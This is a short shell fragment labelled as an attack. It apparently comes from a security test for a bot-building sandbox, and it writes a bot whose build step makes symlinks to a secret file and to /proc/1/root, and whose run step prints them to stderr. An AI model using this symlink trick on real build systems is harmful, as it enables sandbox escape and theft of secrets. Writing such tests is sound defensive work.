# attack: links in the result
mkdir bot
cp "$SNOOP" bot/play.sh
echo "ln -s $SECRET a; ln -s /proc/1/root b; ln -s /proc/self/root$SECRET c; ln -s . d" > bot/build.sh
printf 'run = "sh -c \x27cat a c b%s >&2\x27"\nbuild = "sh build.sh"\n' "$SECRET" > bot/skirmish.toml
